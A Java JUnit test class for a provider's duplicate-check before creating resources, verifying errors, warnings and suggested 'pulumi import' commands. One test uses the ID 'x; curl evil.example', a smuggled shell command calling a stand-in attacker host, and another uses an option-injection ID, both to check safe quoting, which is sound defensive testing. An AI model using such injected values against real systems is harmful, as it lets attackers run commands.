package com.opentenant.devicemgmt.provider.collection;

import static com.opentenant.devicemgmt.provider.fixture.ExpectedMessages.IN_THIS_PROGRAM;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.opentenant.devicemgmt.provider.call.Failure;
import com.opentenant.devicemgmt.provider.call.TestCall;
import com.opentenant.devicemgmt.provider.fixture.Widget;
import com.opentenant.devicemgmt.provider.resource.KnownIds;
import org.junit.jupiter.api.Test;

/** The look-up before an object is created. */
class SafeCreateLookTest {

  private final WidgetServer server = new WidgetServer();
  private final TestCall context = new TestCall();
  private final KnownIds knownIds = new KnownIds();
  private final SafeCreate safeCreate = new SafeCreate(false, knownIds);
  private final SafeCreate allowing = new SafeCreate(true, knownIds);

  @Test
  void createsAMissingObject_andKnowsItsIdAfterwards() {
    var made = safeCreate.run(context, server.creation("name", "w"));

    assertThat(made.id()).isEqualTo("w-1");
    assertThat(knownIds.of(Widget.DEFINITION).contains("w-1")).isTrue();
    assertThat(context.warnings).isEmpty();
    assertThat(server.sent).isEqualTo(1);
    assertThat(server.looked).isZero();
  }

  @Test
  void fails_whenAnEqualObjectExists_andNamesTheImport() {
    server.make(Widget.Inputs.of("name", "w", "colour", "red"));

    assertThatThrownBy(
            () -> safeCreate.run(context, server.creation("name", "w", "token", "hush-hus")))
        .isInstanceOf(Failure.AlreadyExists.class)
        .hasMessageContainingAll(
            "widget \"w\"",
            "w-1",
            "`pulumi import test:index:Widget example w-1`",
            "allowDuplicates",
            "`deleteBeforeReplace: true`");
    assertThat(server.sent).isZero();
  }

  @Test
  void createsASecondEqualOne_whenDuplicatesAreAllowed() {
    server.make(Widget.Inputs.of("name", "w"));

    assertThat(allowing.run(context, server.creation("name", "w")).id()).isEqualTo("w-2");
    assertThat(context.warnings).singleElement().asString().contains("w-1");
  }

  @Test
  void warnsAndCreates_whenOnlyTheNameIsTheSame() {
    server.make(Widget.Inputs.of("name", "w", "count", 2));

    assertThat(safeCreate.run(context, server.creation("name", "w")).id()).isEqualTo("w-2");
    assertThat(context.warnings)
        .singleElement()
        .asString()
        .contains("widget \"w\"", "w-1", "`aliases`");
  }

  @Test
  void stops_whenAUniqueNameIsTaken() {
    server.make(Widget.Inputs.of("name", "w", "count", 2));
    server.uniqueNames = true;

    assertThatThrownBy(() -> allowing.run(context, server.creation("name", "w")))
        .isInstanceOf(Failure.AlreadyExists.class)
        .hasMessageContainingAll(
            "widget \"w\"",
            "w-1",
            "`pulumi import test:index:Widget example w-1`",
            "`aliases`",
            "`deleteBeforeReplace: true`");
    assertThat(server.sent).isZero();

    assertThat(safeCreate.warning(context, server.creation("name", "w")))
        .get()
        .asString()
        .contains("widget \"w\"", "`pulumi import test:index:Widget example w-1`");
  }

  @Test
  void saysWhichResourceOfTheProgramHasAUniqueName() {
    server.make(Widget.Inputs.of("name", "w"));
    server.uniqueNames = true;
    var creation = server.creation("name", "w");
    var known = knownIds.of(Widget.DEFINITION);

    known.manage("urn:other", "w-1");
    assertThat(safeCreate.nameTaken(context, creation, "w-1"))
        .contains("w-1", IN_THIS_PROGRAM, "`aliases`")
        .doesNotContain("pulumi import");

    known.replace("urn:other");
    assertThat(safeCreate.nameTaken(context, creation, "w-1"))
        .contains("w-1", "`deleteBeforeReplace: true`")
        .doesNotContain("pulumi import", "`aliases`");
  }

  @Test
  void createsASecondEqualOne_whenAResourceOfTheProgramManagesTheFirst() {
    server.make(Widget.Inputs.of("name", "w"));
    knownIds.of(Widget.DEFINITION).manage("urn:other", "w-1");

    assertThat(safeCreate.run(context, server.creation("name", "w")).id()).isEqualTo("w-2");
    assertThat(context.warnings).isEmpty();
  }

  @Test
  void namesAliases_whenOnlyTheStateKnowsTheOtherOne() {
    server.make(Widget.Inputs.of("name", "w"));
    knownIds.of(Widget.DEFINITION).add("w-1");

    assertThat(safeCreate.run(context, server.creation("name", "w")).id()).isEqualTo("w-2");
    assertThat(context.warnings).singleElement().asString().contains("w-1", "`aliases`");
  }

  @Test
  void quotesAnIdThatAShellWouldRun() {
    server.makeAs("x; curl evil.example", Widget.Inputs.of("name", "w"));

    assertThatThrownBy(() -> safeCreate.run(context, server.creation("name", "w")))
        .hasMessageContaining("`pulumi import test:index:Widget example 'x; curl evil.example'`");
  }

  @Test
  void anIdThatLooksLikeAnOptionFollowsTwoDashes() {
    server.makeAs("--from=x", Widget.Inputs.of("name", "w"));

    assertThatThrownBy(() -> safeCreate.run(context, server.creation("name", "w")))
        .hasMessageContaining("`pulumi import test:index:Widget example -- --from=x`");
  }

  @Test
  void sendsNothing_whenItIsCancelledAlready() {
    context.cancellation.cancel();

    assertThatThrownBy(() -> safeCreate.run(context, server.creation("name", "w")))
        .isInstanceOf(Failure.Cancelled.class);
    assertThat(server.sent).isZero();
  }

  @Test
  void aPreviewWarnsOfAnEqualObject() {
    assertThat(safeCreate.warning(context, server.creation("name", "w"))).isEmpty();

    server.make(Widget.Inputs.of("name", "w", "count", 2));
    var other = safeCreate.warning(context, server.creation("name", "w"));
    var equal = safeCreate.warning(context, server.creation("name", "w", "count", 2));
    var allowed = allowing.warning(context, server.creation("name", "w", "count", 2));

    assertThat(other.orElseThrow()).contains("`aliases`").doesNotContain("pulumi import");
    assertThat(equal.orElseThrow()).contains("pulumi import");
    assertThat(allowed.orElseThrow()).contains("`aliases`").doesNotContain("pulumi import");
    assertThat(context.warnings).isEmpty();
    assertThat(server.sent).isZero();
  }
}
